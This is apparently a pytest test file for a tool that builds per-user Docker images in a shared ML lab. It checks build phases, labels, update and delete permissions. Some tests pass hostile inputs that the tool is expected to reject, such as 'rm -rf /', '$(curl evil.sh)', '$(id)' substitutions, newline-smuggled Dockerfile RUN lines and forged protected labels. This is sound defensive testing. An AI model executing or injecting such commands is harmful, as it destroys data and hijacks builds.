"""Images with real builds: image-create, image-update, image-list, image-delete, and containers made from them.

The sandbox engine has no network. The catalog image (tests/conftest.py) is the Debian base with
recording stand-ins for pip and apt-get, so a test reads which packages each phase asked for.
"""

import json
import os

import pytest

from tests.support import sandbox

pytestmark = pytest.mark.usefixtures("dockerd")


def calls(client, image):
    """The recorded pip/apt-get calls a build made, in order."""
    out = client.containers.run(image, ["cat", sandbox.STAND_IN_LOG], remove=True, entrypoint=[])
    return out.decode().splitlines()


def pip_calls(client, image):
    return [line.split()[3:] for line in calls(client, image) if line.startswith("pip install")]


def passwd_of(container):
    """/etc/passwd of a container, started or not (the engine's archive API)."""
    import io
    import tarfile

    stream, _ = container.get_archive("/etc/passwd")
    with tarfile.open(fileobj=io.BytesIO(b"".join(stream))) as tar:
        return tar.extractfile(tar.next()).read().decode()


def dockerfile_of(entry, name):
    return os.path.join(entry.pw_dir, "workspace", name, "Dockerfile")


def ref(entry, name):
    return f"ds01-{entry.pw_uid}/{name}:latest"


def test_image_create_without_a_terminal_builds_the_phases_in_order(sh, users, client):
    """Acceptance 1."""
    alice = users["alice"]
    result = sh.run(alice, "image-create", "demo", "-f", "pytorch", "-t", "cv", "--no-jupyter",
                    "-p", "wandb einops")
    assert result.returncode == 0, result.stderr
    record = json.loads(result.stdout)
    assert record["image"] == ref(alice, "demo") and record["built"] is True
    assert record["framework"] == "Pytorch-2.7.1" and record["base_image"] == "ds01-test/ml-base"
    assert "step 1/" in result.stderr  # plain progress lines when stderr is not a terminal
    path = dockerfile_of(alice, "demo")
    assert record["dockerfile"] == path and os.stat(path).st_uid == alice.pw_uid
    assert os.path.exists(path + ".build.log")
    image = client.images.get(ref(alice, "demo"))
    labels = image.labels
    assert labels["aime.mlc.MAINTAINER"] == alice.pw_name
    assert labels["aime.mlc.CUSTOM_IMAGE"] == ref(alice, "demo")
    assert labels["aime.mlc.FRAMEWORK"] == "Pytorch-2.7.1"
    assert labels["aime.mlc.DS01_USER_ID"] == str(alice.pw_uid)
    assert labels["aime.mlc.DS01_GROUP_ID"] == str(alice.pw_gid)
    assert labels["aime.mlc.DS01_BASE_IMAGE"] == "ds01-test/ml-base"
    assert labels["aime.mlc.DS01_CREATED_AT"].endswith("Z")
    assert not any("," in value for value in labels.values())
    assert pip_calls(client, ref(alice, "demo")) == [
        ["pandas", "scipy", "scikit-learn", "matplotlib", "seaborn"],
        ["timm", "albumentations", "opencv-python-headless", "kornia", "ultralytics"],
        ["wandb", "einops"]]
    assert "apt-get install -y --no-install-recommends git curl wget vim htop" in calls(client, ref(alice, "demo"))
    account = client.containers.run(ref(alice, "demo"), ["sh", "-c", f"id -u {alice.pw_name}; id -g "
                                                                     f"{alice.pw_name}; sudo -l -U {alice.pw_name}; "
                                                          "stat -c %s /var/log/lastlog; echo $HF_HOME"
                                    ], remove=True, entrypoint=[]).decode().split("\n")
    assert account[:2] == [str(alice.pw_uid), str(alice.pw_gid)]
    assert any("NOPASSWD: ALL" in line for line in account)
    assert "/workspace/.cache/huggingface" in account


def test_container_create_uses_the_users_image_with_no_setup_step(sh, users, client):
    """Acceptance 2."""
    alice = users["alice"]
    sh.run(alice, "image-create", "demo", "-t", "ml", check=True)
    before = {image.id: set(image.tags) for image in client.images.list()}
    created = sh.records(alice, "container-create", "demo", "--cpu-only")[0]
    assert created["image"] == ref(alice, "demo")
    after = {image.id: set(image.tags) for image in client.images.list()}
    own = ref(alice, "demo").rsplit(":", 1)[0] + ":" + created["container"]
    image_id = client.images.get(ref(alice, "demo")).id
    # no setup image was committed: the container's own tag names the same image
    assert set(after) == set(before) and after[image_id] == before[image_id] | {own}
    sh.run(alice, "container-start", "demo", check=True)
    container = client.containers.get(created["container"])
    assert container.exec_run(["id", "-un"]).output.decode().strip() == alice.pw_name
    # the image has AIME's sudoers drop-in, but the policy gives students no sudo: nothing can use it
    assert container.exec_run(["sudo", "-n", "true"]).exit_code == 1
    assert container.labels["aime.mlc.FRAMEWORK"] == "Pytorch-2.7.1"


@pytest.mark.parametrize("argv", [
    ["image-create", "demo", "-p", "numpy; rm -rf /"],
    ["image-create", "demo", "-p", "numpy `id`"],
    ["image-create", "demo", "-p", "$(curl evil.sh)"],
    ["image-create", "demo", "-s", "ffmpeg;id"],
    ["image-create", "demo", "-s", "$(id)"],
    ["image-create", "demo;id"],
    ["image-create", "../demo"],
    ["image-create", "demo", "--base-image", "ubuntu\nRUN id"],
    ["image-create", "demo", "-f", "custom", "--base-image", "ubuntu:24.04 AS x"],
    ["image-update", "demo", "--add", "numpy\nRUN id"],
    ["image-update", "demo", "--add-system", "vim;id"],
])
def test_injection_attempts_are_refused_before_anything_is_written(offline_sh, users, argv):
    """Acceptance 3 (options and names): exit 2, before Docker or the disk is touched."""
    alice = users["alice"]
    result = offline_sh.run(alice, *argv)
    assert result.returncode == 2, result.stderr
    assert f"{argv[0]}: error:" in result.stderr
    assert not os.path.exists(dockerfile_of(alice, "demo"))


def test_a_requirements_file_with_an_injected_line_is_refused(sh, users, user_tmp, client):
    """Acceptance 3 (-r file lines)."""
    alice = users["alice"]
    requirements = user_tmp / "requirements.txt"
    requirements.write_text("numpy>=1.24\nrequests; rm -rf /\n")
    os.chmod(requirements, 0o644)
    result = sh.run(alice, "image-create", "demo", "-r", str(requirements))
    assert result.returncode == 2
    assert f"{requirements}:2" in result.stderr
    assert not os.path.exists(os.path.dirname(dockerfile_of(alice, "demo")))
    assert not [i for i in client.images.list() if ref(alice, "demo") in i.tags]


def test_a_requirements_file_is_its_own_phase_before_the_defaults(sh, users, user_tmp, client):
    alice = users["alice"]
    requirements = user_tmp / "requirements.txt"
    requirements.write_text("# project\nrequests >= 2.31\nPandas\n")
    os.chmod(requirements, 0o644)
    result = sh.run(alice, "image-create", "req", "-r", str(requirements), "--no-jupyter")
    assert result.returncode == 0, result.stderr
    assert "pandas is already in your requirements file; dropped from data science" in result.stderr
    # With a requirements file and no -t, the use case is custom: no ml set.
    assert pip_calls(client, ref(alice, "req")) == [["requests>=2.31", "Pandas"],
                                                   ["scipy", "scikit-learn", "matplotlib", "seaborn"]]


def test_a_failed_build_names_the_step_and_keeps_the_previous_image(sh, users, client):
    alice = users["alice"]
    sh.run(alice, "image-create", "exp", "--no-jupyter", check=True)
    before = client.images.get(ref(alice, "exp")).id
    path = dockerfile_of(alice, "exp")
    with open(path, encoding="utf-8") as handle:
        text = handle.read()
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(text.replace("WORKDIR /workspace", "RUN echo boom-output && exit 3\nWORKDIR /workspace"))
    result = sh.run(alice, "image-update", "exp", "--rebuild")
    assert result.returncode == 1
    assert "build of" in result.stderr and "RUN echo boom-output && exit 3" in result.stderr
    assert "    boom-output" in result.stderr  # the tail of the failing step
    assert "full log:" in result.stderr
    assert client.images.get(ref(alice, "exp")).id == before
    with open(path + ".build.log", encoding="utf-8") as handle:
        assert "boom-output" in handle.read()


def test_image_update_adds_removes_and_rebuilds_then_recreates_the_container(sh, users, client):
    alice = users["alice"]
    sh.run(alice, "image-create", "upd", "--no-jupyter", "-t", "rl", check=True)
    created = sh.records(alice, "container-create", "upd", "--cpu-only")[0]
    old_image = client.images.get(ref(alice, "upd")).id
    path = dockerfile_of(alice, "upd")
    result = sh.run(alice, "image-update", "upd", "--add", "wandb numpy", "--remove", "seaborn",
                    "--add-system", "ffmpeg", "--recreate")
    assert result.returncode == 0, result.stderr
    assert "numpy is already in the base image; not added again" in result.stderr
    record = json.loads(result.stdout)
    assert record["added"] == ["wandb", "ffmpeg"] and record["removed"] == ["seaborn"]
    assert record["built"] is True and record["recreated"] == created["container"]
    assert os.path.exists(path + ".bak")
    new_image = client.images.get(ref(alice, "upd"))
    assert new_image.id != old_image
    assert pip_calls(client, ref(alice, "upd")) == [["pandas", "scipy", "scikit-learn", "matplotlib"],
                                                   ["gymnasium", "stable-baselines3"], ["wandb"]]
    wanted = "apt-get install -y --no-install-recommends git curl wget vim htop ffmpeg"
    assert wanted in calls(client, ref(alice, "upd"))
    container = client.containers.get(created["container"])
    assert container.image.id == new_image.id and container.id != created["id"]
    assert container.labels["aime.mlc.WORK_MOUNT"] == created["workspace"]
    assert container.labels["aime.mlc.GPUS"] == "none"
    bad = sh.run(alice, "image-update", "upd", "--add", "x; rm -rf /")
    assert bad.returncode == 2
    with open(path, encoding="utf-8") as handle:
        assert "x; rm" not in handle.read()


def test_image_delete_keeps_the_dockerfile_and_pipes_delete_only_the_callers(sh, users, client):
    """Acceptance 5."""
    alice, bob = users["alice"], users["bob"]
    for name in ("one", "two"):
        sh.run(alice, "image-create", name, "--no-jupyter", "--no-data-science", "-t", "custom", check=True)
    sh.run(bob, "image-create", "bobs", "--no-jupyter", "--no-data-science", "-t", "custom", check=True)
    sh.records(alice, "container-create", "two", "--cpu-only")
    bobs_container = sh.records(bob, "container-create", "bobs", "--cpu-only")[0]
    listed = sh.records(alice, "image-list")
    assert [r["name"] for r in listed] == ["one", "two"]
    assert listed[1]["containers"] == ["two"] and listed[0]["dockerfile"] == dockerfile_of(alice, "one")
    refused = sh.run(alice, "image-delete", "two")
    assert refused.returncode == 1 and "used by 1 container" in refused.stderr
    assert sh.run(alice, "image-delete", ref(bob, "bobs")).returncode == 5
    deleted = sh.pipe(alice, ["image-list"], ["image-delete", "--force"])
    assert deleted.returncode == 0, deleted.stderr
    assert [json.loads(line)["name"] for line in deleted.stdout.splitlines()] == ["one", "two"]
    assert "removed container two" in deleted.stderr
    tags = {tag for image in client.images.list() for tag in image.tags}
    assert ref(alice, "one") not in tags and ref(alice, "two") not in tags and ref(bob, "bobs") in tags
    assert client.containers.get(bobs_container["container"])
    assert os.path.exists(dockerfile_of(alice, "one")) and os.path.exists(dockerfile_of(alice, "two"))
    assert sh.run(alice, "image-delete", "one").returncode == 4
    sh.run(bob, "image-delete", "bobs", "--force", "--delete-dockerfile", check=True)
    assert not os.path.exists(dockerfile_of(bob, "bobs"))


def test_container_create_with_a_framework_uses_the_catalog_image(sh, users, client):
    alice = users["alice"]
    created = sh.records(alice, "container-create", "pt", "PyTorch", "2.5.1", "--cpu-only")[0]
    container = client.containers.get(created["container"])
    assert container.labels["aime.mlc.FRAMEWORK"] == "Pytorch-2.5.1"
    assert container.labels["aime.mlc.ARCH"] == "CUDA_ADA"
    # AIME's per-container image: a tag of the catalog image's own (the account is in the container)
    assert container.attrs["Config"]["Image"] == f"ds01-test/ml-base:{created['container']}"
    assert container.image.id == client.images.get("ds01-test/ml-base:latest").id
    missing = sh.run(alice, "container-create", "pt2", "pytorch", "9.9", "--cpu-only")
    assert missing.returncode == 4 and "versions for CUDA_ADA: 2.7.1, 2.5.1" in missing.stderr


def test_image_catalog_lists_the_frameworks_for_the_arch(sh, users):
    alice = users["alice"]
    records = sh.records(alice, "image-catalog")
    assert [(r["framework"], r["version"], r["latest"]) for r in records] == [
        ("Pytorch", "2.7.1", True), ("Pytorch", "2.5.1", False), ("Tensorflow", "2.14.0", True)]
    amp = sh.records(alice, "image-catalog", "tensorflow", "--arch", "CUDA_AMPERE")
    assert [(r["framework"], r["arch"]) for r in amp] == [("Tensorflow", "CUDA_AMPERE")]
    assert sh.run(alice, "image-catalog", "caffe").returncode == 4
    assert sh.run(alice, "image-catalog", "--arch", "CUDA_HOPPER").returncode == 2


def test_an_existing_image_is_not_replaced_without_force(sh, users, client):
    alice = users["alice"]
    sh.run(alice, "image-create", "keep", "--no-jupyter", check=True)
    first = client.images.get(ref(alice, "keep")).id
    again = sh.run(alice, "image-create", "keep", "-t", "nlp")
    assert again.returncode == 1 and "--force" in again.stderr
    assert client.images.get(ref(alice, "keep")).id == first
    forced = sh.run(alice, "image-create", "keep", "-t", "nlp", "--no-jupyter", "--force")
    assert forced.returncode == 0, forced.stderr
    assert os.path.exists(dockerfile_of(alice, "keep") + ".bak")
    assert ["transformers", "datasets", "tokenizers", "accelerate", "sentencepiece", "peft", "safetensors",
            "evaluate"] in pip_calls(client, ref(alice, "keep"))
    assert first not in [i.id for i in client.images.list()]  # the replaced image is not left dangling


def test_the_wizard_asks_each_phase_on_a_terminal(sh, users):
    pexpect = pytest.importorskip("pexpect")
    alice = users["alice"]
    from tests.support.harness import BIN

    child = pexpect.spawn(sandbox.as_user_command(alice, [str(BIN / "image-create"), "wiz", "--no-build",
                                                          "--guided"])[0],
                          sandbox.as_user_command(alice, [str(BIN / "image-create"), "wiz", "--no-build",
                                                          "--guided"])[1:],
                          env=sh.env(alice), cwd="/", encoding="utf-8", timeout=60, dimensions=(40, 160))
    child.expect("The framework picks the base image")
    child.expect(r"Framework \[1-5\]")
    child.sendline("2")
    child.expect("Already in the base image: tensorflow, keras")
    child.expect(r"Include Jupyter .*\?")
    child.sendline("n")
    child.expect(r"Include data science .*\?")
    child.sendline("")
    child.expect(r"Use case \[1-8\]")
    child.sendline("3")
    child.expect("Additional pip packages")
    child.sendline("wandb numpy")
    child.expect(r"System \(apt\) packages")
    child.sendline("ffmpeg")
    child.expect("numpy is already in the base image")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0, child.before
    from ds01.images.dockerfile import Blocks

    with open(dockerfile_of(alice, "wiz"), encoding="utf-8") as handle:
        text = handle.read()
    assert "FROM ds01-test/ml-base" in text and "Tensorflow-2.14.0" in text
    blocks = Blocks(text)
    assert blocks.packages["jupyter"] == [] and blocks.packages["data-science"][0] == "pandas"
    assert blocks.packages["use-case"][0] == "transformers" and blocks.packages["additional"] == ["wandb"]
    assert blocks.packages["system"][-1] == "ffmpeg"


def test_without_a_terminal_nothing_is_asked(offline_sh, users):
    result = offline_sh.run(users["alice"], "image-create")
    assert result.returncode == 2 and "no image name given" in result.stderr


def test_an_existing_dockerfile_builds_with_its_directory_as_context(sh, users, client):
    alice = users["alice"]
    project = os.path.join(alice.pw_dir, "workspace", "hand")
    sh.run(alice, "sh", "-c", f"mkdir -p {project}/src && echo hello > {project}/src/data.txt", check=True)
    path = os.path.join(project, "Dockerfile")
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(f"FROM {sandbox.BASE_IMAGE}\nCOPY src/data.txt /opt/data.txt\n")
    os.chown(path, alice.pw_uid, alice.pw_gid)
    record = sh.records(alice, "image-create", "hand", "--dockerfile", path)[0]
    image = client.images.get(ref(alice, "hand"))
    assert record["built"] is True and image.labels["aime.mlc.DS01_DOCKERFILE"] == path
    assert image.labels["aime.mlc.DS01_BASE_IMAGE"] == sandbox.BASE_IMAGE
    assert "aime.mlc.DS01_USER_ID" not in image.labels  # nothing says the account is inside
    assert client.containers.run(ref(alice, "hand"), ["cat", "/opt/data.txt"], remove=True).strip() == b"hello"
    created = sh.records(alice, "container-create", "hand", "--cpu-only")[0]
    container = client.containers.get(created["container"])
    assert container.attrs["Config"]["Image"] == f"ds01-{alice.pw_uid}/hand:{created['container']}"
    assert f"{alice.pw_name}:x:{alice.pw_uid}:" in passwd_of(container)  # so the account was set up
    assert sh.run(alice, "image-create", "hand2", "--dockerfile", path, "-p", "numpy").returncode == 2


def test_a_dockerfile_that_sets_ds01s_labels_is_refused_before_it_builds(sh, users, client):
    """Issue 18, repro 5: a user appends `LABEL aime.mlc.DS01_PROTECTED=true aime.mlc.DS01_GPU_UUIDS=…`."""
    alice = users["alice"]
    project = os.path.join(alice.pw_dir, "workspace", "forged")
    sh.run(alice, "mkdir", "-p", project, check=True)
    path = os.path.join(project, "Dockerfile")
    sh.run(alice, "sh", "-c", f"cat > {path}", input=f"FROM {sandbox.BASE_IMAGE}\n"
           "LABEL aime.mlc.DS01_PROTECTED=true aime.mlc.DS01_GPU_UUIDS=GPU-1\n", check=True)
    refused = sh.run(alice, "image-create", "forged", "--dockerfile", path)
    assert refused.returncode == 2
    assert f"{path}:2: LABEL aime.mlc.DS01_PROTECTED" in refused.stderr and "GPU_UUIDS" in refused.stderr
    with pytest.raises(Exception, match="No such image"):
        client.images.get(ref(alice, "forged"))


def test_on_a_terminal_the_build_shows_one_rewritten_step_line(sh, users, client):
    pexpect = pytest.importorskip("pexpect")
    from tests.support.harness import BIN

    alice = users["alice"]
    argv = sandbox.as_user_command(alice, [str(BIN / "image-create"), "tty", "-f", "pytorch", "-t", "rl",
                                           "--jupyter", "--data-science", "-p", "wandb", "-s", "ffmpeg"])
    child = pexpect.spawn(argv[0], argv[1:], env=sh.env(alice), cwd="/", encoding="utf-8", timeout=120)
    child.expect(r"Build the image now\?")
    child.sendline("")
    child.expect(r"\r\x1b\[Kstep 1/\d+: FROM ds01-test/ml-base")
    child.expect(r"\r\x1b\[Kstep \d+/\d+: RUN \[\"pip\"")
    child.expect("built ds01-")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0
    assert ["gymnasium", "stable-baselines3"] in pip_calls(client, ref(alice, "tty"))


def test_image_list_all_users_is_for_admins(sh, users):
    alice, bob, admin = users["alice"], users["bob"], users["admin"]
    sh.run(alice, "image-create", "a1", "--no-jupyter", check=True)
    sh.run(bob, "image-create", "b1", "--no-jupyter", check=True)
    assert [r["name"] for r in sh.records(bob, "image-list")] == ["b1"]
    assert sh.run(bob, "image-list", "-a").returncode == 5
    everyone = sh.records(admin, "image-list", "-a")
    assert {(r["user"], r["name"]) for r in everyone} == {(alice.pw_name, "a1"), (bob.pw_name, "b1")}
    assert sh.run(admin, "image-delete", ref(bob, "b1"), check=True).returncode == 0
    assert os.path.exists(dockerfile_of(bob, "b1"))


def test_the_legacy_name_image_remove_still_deletes(sh, users, client):
    alice = users["alice"]
    missing = sh.run(alice, "image-remove", "nothere")
    assert missing.returncode == 4 and missing.stderr.startswith("image-remove: error: no image")
    sh.run(alice, "image-create", "old", "--no-jupyter", check=True)
    assert sh.records(alice, "image-remove", "old")[0]["status"] == "deleted"
    assert ref(alice, "old") not in {t for i in client.images.list() for t in i.tags}


def package_runs(text):
    """The package phases' RUN instructions (exec form; the account block is a shell RUN)."""
    from ds01.images.dockerfile import instructions

    return [rest for _, word, rest in instructions(text) if word == "RUN" and rest.lstrip().startswith("[")]


def offline_shell(tmp, policy_file, dockerd, event_log_dir):
    """A Shell whose policy names no default packages (an offline lab's): `images.default_*: []`."""
    from tests.support.harness import Shell

    text = policy_file.read_text().replace('images: {allowed: ["ds01-test/*"]}',
                                           'images: {allowed: ["ds01-test/*"], default_system_packages: [], '
                                           'default_sets: []}')
    path = tmp / "offline.yaml"
    path.write_text(text)
    os.chmod(path, 0o644)
    state = tmp / "state"
    state.mkdir(mode=0o755)
    return Shell(dockerd, path, event_log_dir, {"DS01_STATE_DIR": str(state)})


def test_a_custom_image_from_a_local_base_adds_nothing_and_builds_offline(sh, users, client):
    """Issue 30: `-f custom --base-image <local> --no-jupyter --no-data-science` writes no apt or pip RUN, so it
    builds with no network (the sandbox engine has none, and this base's apt-get is the real one)."""
    alice = users["alice"]
    result = sh.run(alice, "image-create", "lab", "-f", "custom", "--base-image", sandbox.BASE_IMAGE,
                    "--no-jupyter", "--no-data-science")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["built"] is True
    with open(dockerfile_of(alice, "lab"), encoding="utf-8") as handle:
        text = handle.read()
    assert package_runs(text) == [], text
    assert client.images.get(ref(alice, "lab")).labels["aime.mlc.DS01_BASE_IMAGE"] == sandbox.BASE_IMAGE


def test_a_custom_base_gets_only_what_its_flags_ask_for(sh, users):
    from ds01.images.dockerfile import Blocks

    alice = users["alice"]
    sh.run(alice, "image-create", "bare", "--base-image", sandbox.BASE_IMAGE, "--no-build", check=True)
    with open(dockerfile_of(alice, "bare"), encoding="utf-8") as handle:
        assert package_runs(handle.read()) == []
    sh.run(alice, "image-create", "asked", "-f", "custom", "--base-image", sandbox.BASE_IMAGE, "-s", "ffmpeg",
           "--jupyter", "-t", "rl", "--no-build", check=True)
    with open(dockerfile_of(alice, "asked"), encoding="utf-8") as handle:
        blocks = Blocks(handle.read())
    assert blocks.packages["system"] == ["ffmpeg"] and blocks.packages["jupyter"][0] == "jupyter"
    assert blocks.packages["use-case"] == ["gymnasium", "stable-baselines3"]
    assert blocks.packages["data-science"] == []


def test_a_policy_without_default_packages_adds_none_to_catalog_images(users, policy_file, dockerd, event_log_dir,
                                                                       user_tmp, client):
    alice = users["alice"]
    offline = offline_shell(user_tmp, policy_file, dockerd, event_log_dir)
    try:
        result = offline.run(alice, "image-create", "plain", "-f", "pytorch")
        assert result.returncode == 0, result.stderr
        with open(dockerfile_of(alice, "plain"), encoding="utf-8") as handle:
            assert package_runs(handle.read()) == []
        assert json.loads(result.stdout)["built"] is True
    finally:
        for image in client.images.list():
            for tag in image.tags:
                if tag.startswith(f"ds01-{alice.pw_uid}/"):
                    client.images.remove(tag, force=True)
        import shutil

        shutil.rmtree(os.path.join(alice.pw_dir, "workspace"), ignore_errors=True)
